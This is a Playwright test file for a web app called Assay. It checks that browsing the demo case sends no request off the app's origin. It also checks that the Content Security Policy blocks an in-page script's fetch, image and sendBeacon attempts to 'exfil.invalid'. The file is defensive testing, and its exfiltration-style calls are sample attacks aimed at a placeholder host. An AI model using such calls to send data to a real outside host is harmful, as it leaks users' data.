import { expect, test } from '../support/fixtures';

// The `page` fixture already fails a test on any request to a host other than the app's own origin. This spec walks
// the whole UI under that check, watches the whole browser context (workers, popups, sockets), and shows that even a
// script in the page could not send data out: the CSP refuses it before any request exists.

test('the demo case, its graph and every panel load with no request leaving the app origin', async ({ page, host }) => {
  const elsewhere: string[] = [];
  page.context().on('request', (r) => void (new URL(r.url()).origin !== host.origin && !/^(data|blob):/.test(r.url()) && elsewhere.push(r.url())));
  page.on('websocket', (ws) => void elsewhere.push(`websocket ${ws.url()}`));
  page.on('worker', (w) => void (new URL(w.url()).origin !== host.origin && elsewhere.push(`worker ${w.url()}`)));

  await page.goto(host.url);
  await page.getByRole('button', { name: /Open demo case/ }).click();
  await expect(page.getByTestId('graph-counts')).toHaveAttribute('data-nodes', /^[1-9]\d*$/, { timeout: 30_000 });
  const tabs = page.getByRole('tab');
  for (let i = 0; i < (await tabs.count()); i += 1) await tabs.nth(i).click();
  await page.evaluate(() => {
    const cy = (window as unknown as { __assayCy: { nodes(): { first(): { emit(e: string): void } } } }).__assayCy;
    cy.nodes().first().emit('tap');
  });
  await tabs.first().click();
  await expect(page.locator('.inspector-body')).toBeVisible();
  expect(elsewhere).toEqual([]);
});

// Its own browser context, not the `page` fixture: Chromium reports a CSP-blocked image as a request that then fails
// with ERR_BLOCKED_BY_CSP, and the point here is to show every such attempt is blocked, never answered.
test('a script in the page cannot reach another host: fetch, image and beacon are refused by the CSP', async ({ browser, host }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const answered: string[] = [];
  const blocked: string[] = [];
  page.on('response', (r) => void (new URL(r.url()).origin !== host.origin && answered.push(r.url())));
  page.on('requestfailed', (r) => void (new URL(r.url()).origin !== host.origin && blocked.push(`${r.failure()?.errorText} ${r.url()}`)));
  try {
    await page.goto(host.url);
    await expect(page.getByRole('heading', { name: 'Assay' })).toBeVisible();
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const fetched = await fetch('http://exfil.invalid/steal?d=case').then(
        () => 'sent',
        () => 'refused',
      );
      const img = new Image();
      img.src = 'http://exfil.invalid/pixel.png';
      navigator.sendBeacon('http://exfil.invalid/beacon', 'case');
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { fetched, violations };
    });
    expect(outcome.fetched).toBe('refused');
    expect(outcome.violations).toEqual(
      expect.arrayContaining([expect.stringMatching(/^connect-src http:\/\/exfil\.invalid/), expect.stringMatching(/^img-src http:\/\/exfil\.invalid/)]),
    );
    expect(answered).toEqual([]);
    // Chromium names the reason "csp" (older builds: net::ERR_BLOCKED_BY_CSP): blocked in the page, never sent.
    expect(blocked).toContain('csp http://exfil.invalid/pixel.png');
    for (const failure of blocked) expect(failure).toMatch(/^(csp|net::ERR_BLOCKED_BY_CSP) /);
  } finally {
    await context.close();
  }
});
